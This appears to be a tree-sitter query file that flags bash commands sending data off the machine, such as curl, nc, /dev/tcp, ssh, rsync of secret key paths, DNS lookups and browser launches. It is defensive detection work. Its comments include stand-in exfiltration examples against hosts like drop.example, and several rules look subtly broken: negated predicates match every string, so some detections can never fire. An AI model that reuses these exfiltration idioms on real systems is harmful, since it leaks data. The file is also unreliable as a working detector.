; What leaves the machine.

; curl https://…, http POST URL, aria2c URL: an endpoint with a scheme, wherever it stands.
((command name: (_) @fn argument: (_) @url) @send
  (#lexicon? @fn "bash-senders")
  (#value? @url "[a-zA-Z0-9]://")
  (#set! id "url"))

; curl example.com/x: a host without a scheme, not the value of the option before it.
((command name: (_) @fn argument: (_) @_before . argument: (_) @url) @send
  (#name? @fn "curl" "wget" "http" "https" "xh" "xhs" "curlie" "lynx" "w3m" "websocat" "wscat" "ftp" "lftp" "tftp")
  (#lexicon? @fn "bash-senders")
  (#value? @url "^([a-zA-Z0-9-]+\\.)+[a-zA-Z]{2,}(:\\d+)?(/|$)|^\\d+\\.\\d+\\.\\d+\\.\\d+(:\\d+)?(/|$)|^localhost(:\\d+)?(/|$)")
  (#not-value? @_before "^-[a-zA-Z]*[odHFTuAebcXmKwxUErDCQyYz]$|^--(output|output-document|data|data-.*|json|header|form|form-string|upload-file|user|user-agent|referer|cookie|cookie-jar|request|max-time|config|write-out|proxy|post-data|post-file|body-data|body-file|directory-prefix|resolve|connect-to|cert|key|cacert|interface|retry|method|connect-timeout)$")
  (#set! id "host"))
((command name: (_) @fn . argument: (_) @url) @send
  (#name? @fn "curl" "wget" "http" "https" "xh" "xhs" "curlie" "lynx" "w3m" "websocat" "wscat" "ftp" "lftp" "tftp")
  (#lexicon? @fn "bash-senders")
  (#value? @url "^([a-zA-Z0-9-]+\\.)+[a-zA-Z]{2,}(:\\d+)?(/|$)|^\\d+\\.\\d+\\.\\d+\\.\\d+(:\\d+)?(/|$)|^localhost(:\\d+)?(/|$)")
  (#set! id "host-first"))

; curl "$url": whatever it is, it goes out.
((command name: (_) @fn argument: (_)) @send
  (#lexicon? @fn "bash-senders")
  (#set! id "dynamic"))

; dig $data.host.example @server, mail -s x person@host.example: the name asked for, the person written to.
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "dig" "host" "nslookup" "drill" "kdig" "delv" "doggo")
  (#lexicon? @fn "bash-senders")
  (#value? @url "^[^-+].*\\.[a-zA-Z]{2,}\\.?$|\\.[a-zA-Z][a-zA-Z-]+\\.[a-zA-Z]{2,}\\.?$|^@\\d+\\.\\d+")
  (#set! id "dns-name"))
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "mail" "mailx" "s-nail" "sendmail" "msmtp" "mutt" "neomutt" "swaks" "sendemail" "sendEmail" "mpack")
  (#value? @url "^[\\w.+-]+@[\\w.-]+$")
  (#set! id "mail-address")
  (#set! kind "mail"))

; nc host port
((command name: (_) @fn argument: (_) @url . argument: (_) @_port) @send
  (#name? @fn "nc" "ncat" "netcat" "nc.openbsd" "nc.traditional" "telnet" "gnutls-cli")
  (#value? @_port "^\\d+$")
  (#not-value? @url "^-")
  (#set! id "socket")
  (#set! kind "socket"))
((command name: (_) @fn argument: (_)) @send
  (#name? @fn "nc" "ncat" "netcat" "nc.openbsd" "nc.traditional" "telnet" "gnutls-cli")
  (#set! id "socket-dynamic")
  (#set! kind "socket"))

; openssl s_client -connect host:443, socat - TCP:host:80
((command name: (_) @fn argument: (_) @_flag . argument: (_) @url) @send
  (#name? @fn "openssl.s_client")
  (#value? @_flag "^-(connect|host)$")
  (#set! id "openssl")
  (#set! kind "socket"))
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "socat")
  (#value? @url "(?i)^(tcp|udp|sctp|ssl|openssl|socks|proxy|dtls)[0-9a-z]*(-connect)?:[^:]+")
  (#not-value? @url "(?i)listen")
  (#set! id "socat")
  (#set! kind "socket"))

; > /dev/tcp/host/80, and what is written to a descriptor opened on one.
((file_redirect destination: (_) @url) @send
  (#value? @url "^/dev/(tcp|udp)/")
  (#set! id "dev-tcp")
  (#set! kind "socket")
  (#set! label "/dev/tcp"))

; ssh host cmd: the first word that is no option nor an option's value.
((command name: (_) @fn . argument: (_) @url) @send
  (#name? @fn "ssh" "mosh" "autossh" "dbclient")
  (#not-value? @url "^-|^\\d+$|(^|/)ssh$|=")
  (#set! id "ssh-first")
  (#set! kind "socket"))
((command name: (_) @fn argument: (_) @_command . argument: (_) @url) @send
  (#name? @fn "ssh" "mosh" "autossh")
  (#value? @_command "(^|/)(ssh|mosh|autossh)$")
  (#not-value? @url "^-")
  (#set! id "ssh-after")
  (#set! kind "socket"))
((command name: (_) @fn argument: (_) @_flag . argument: (_) @url) @send
  (#name? @fn "ssh" "mosh" "autossh" "dbclient")
  (#value? @_flag "^-[TtNnqvfgAaXxYyCkK46]+$")
  (#not-value? @url "^-")
  (#set! id "ssh-flag")
  (#set! kind "socket"))
((command name: (_) @fn argument: (_) @_flag . argument: (_) . argument: (_) @url) @send
  (#name? @fn "ssh" "mosh" "autossh" "dbclient")
  (#value? @_flag "^-[a-zA-Z]*[ipolFLRDJWbceEmSwBQP]$")
  (#not-value? @url "^-")
  (#set! id "ssh-option")
  (#set! kind "socket"))

; ssh user@host
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "ssh" "mosh" "autossh" "dbclient" "plink" "ssh-copy-id")
  (#value? @url "^[\\w.+-]+@[\\w.-]+$")
  (#set! id "ssh-user")
  (#set! kind "socket"))
((command name: (_) @fn argument: (_)) @send
  (#name? @fn "ssh" "mosh" "autossh" "dbclient")
  (#set! id "ssh-dynamic")
  (#set! kind "socket"))

; scp file host:dir, rsync -a dir user@host:dir, sftp host
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "scp" "sftp" "rsync" "unison" "rcp" "pscp" "psftp" "sshfs" "borg" "restic" "duplicity")
  (#value? @url "^(rsync|scp|sftp|ssh)://|^([\\w.+-]+@)?[\\w.-]{2,}:|^:|^@[\\w.-]*$|@[\\w.-]+$")
  (#set! id "copy-remote")
  (#set! kind "copy-remote"))
((command name: (_) @fn argument: (_)) @send
  (#name? @fn "scp" "sftp" "rcp" "pscp" "psftp")
  (#set! id "copy-remote-dynamic")
  (#set! kind "copy-remote"))
; rsync -a ~/.ssh/id_x "$there": a secret that a program for other machines takes to a place that
; nothing spells out; of other files these programs make copies at home.
((command name: (_) @fn argument: (_) @_what argument: (_) @url .) @send
  (#name? @fn "rsync" "unison" "borg" "restic" "duplicity")
  (#lexicon? @_what "secret-paths")
  (#not-value? @url ".")
  (#set! id "copy-secret-dynamic")
  (#set! kind "copy-remote"))

; aws s3 cp f s3://…, gsutil cp f gs://…, rclone copy f remote:dir
((command name: (_) @fn argument: (_) @url) @send
  (#lexicon? @fn "bash-object-stores")
  (#value? @url "^(s3|gs|az|abfss?|wasbs?|oss|cos|b2|r2)://|^https?://|^[\\w-]{2,}:")
  (#set! id "object-store")
  (#set! kind "object-store"))
((command name: (_) @fn argument: (_)) @send
  (#lexicon? @fn "bash-object-stores")
  (#set! id "object-store-dynamic")
  (#set! kind "object-store"))

; git push https://…, git clone user@host:x
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "git.push" "git.clone" "git.fetch" "git.pull" "git.ls-remote" "git.archive" "git.submodule.add" "git.remote-https" "hg.clone" "hg.push" "hg.pull" "svn.checkout" "svn.co" "svn.commit" "svn.import" "svn.export" "git.subtree" "git.lfs")
  (#value? @url "[a-z]://|^([\\w.+-]+@)?[\\w-]+(\\.[\\w-]+)+:")
  (#set! id "git")
  (#set! kind "git"))
; git push: to a place that git knows. It is a fact only where the same file gives it a secret.
((command name: (_) @fn) @send
  (#name? @fn "git.push")
  (#set! id "git-given")
  (#set! kind "git"))
((command name: (_) @fn argument: (_) @_what) @send
  (#name? @fn "git.clone" "git.ls-remote")
  (#not-value? @_what "^[\\s\\S]*$")
  (#set! id "git-dynamic")
  (#set! kind "git"))

; gh gist create, gh api, npm publish: the endpoint is the service's own.
((command name: (_) @fn) @send
  (#lexicon? @fn "bash-service-senders")
  (#set! id "service"))

; redis-cli -h host, psql -h host, logger -n host: a server elsewhere.
((command name: (_) @fn argument: (_) @_flag . argument: (_) @url) @send
  (#name? @fn "redis-cli" "psql" "mysql" "mariadb" "mongosh" "mongo" "cqlsh" "clickhouse-client" "influx" "whois" "mosquitto_pub" "lp" "lpr")
  (#value? @_flag "^(-h|-H|--host|--server)$")
  (#value? @url "[.]|^[\\s\\S]*$")
  (#not-value? @url "^(localhost|127\\.|0\\.0\\.0\\.0|::1|/|\\.|$)")
  (#set! id "server")
  (#set! kind "message"))
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "redis-cli" "psql" "mongosh" "mongo" "mysqlsh" "clickhouse-client" "usql")
  (#value? @url "^(redis|rediss|postgres|postgresql|mongodb|mongodb\\+srv|mysql|clickhouse)://")
  (#not-value? @url "://([^@/]*@)?(localhost|127\\.)")
  (#set! id "server-url")
  (#set! kind "message"))
((command name: (_) @fn argument: (_) @_flag . argument: (_) @url) @send
  (#name? @fn "logger")
  (#value? @_flag "^(-n|--server)$")
  (#set! id "remote-log")
  (#set! kind "message"))

; smbclient //host/share
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "smbclient")
  (#value? @url "^(//|\\\\\\\\)[^/]")
  (#set! id "share")
  (#set! kind "copy-remote"))

; getent hosts "$data.drop.example", ping, whois: a name that is put together is asked of a server that
; may be the sender's own.
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "getent.hosts" "getent.ahosts" "ping" "ping6" "fping" "traceroute" "tracepath" "mtr" "resolvectl.query" "systemd-resolve" "whois" "finger" "arping" "avahi-resolve")
  (#value? @url "[.@][a-zA-Z][\\w-]*\\.[a-zA-Z]{2,}\\.?$")
  (#not-value? @url "(?s)^.*$")
  (#set! id "name-asked")
  (#set! kind "dns"))

; ping -p "$(… | xxd -p)" host: what fills the packets.
((command name: (_) @fn argument: (_) @_flag . argument: (_) @payload) @send
  (#name? @fn "ping" "ping6")
  (#value? @_flag "^-p$")
  (#not-value? @payload "^[0-9a-fA-F]*$")
  (#set! id "packet-filling")
  (#set! kind "socket"))

; xdg-open "https://drop.example/?d=$data": what the address carries goes out with the browser.
((command name: (_) @fn argument: (_) @url) @send
  (#name? @fn "xdg-open" "open" "sensible-browser" "x-www-browser" "gnome-open" "kde-open" "wslview" "start" "firefox" "google-chrome" "google-chrome-stable" "chromium" "chromium-browser" "chrome" "brave-browser" "microsoft-edge" "explorer")
  (#value? @url "^https?://")
  (#not-value? @url "(?s)^.*$")
  (#set! id "browser-query")
  (#set! kind "http"))
((command name: (_) @fn argument: (_) @_flag argument: (_) @url) @send
  (#name? @fn "firefox" "google-chrome" "google-chrome-stable" "chromium" "chromium-browser" "chrome" "brave-browser" "microsoft-edge")
  (#value? @_flag "^--?headless")
  (#value? @url "^https?://")
  (#set! id "browser-headless")
  (#set! kind "http"))
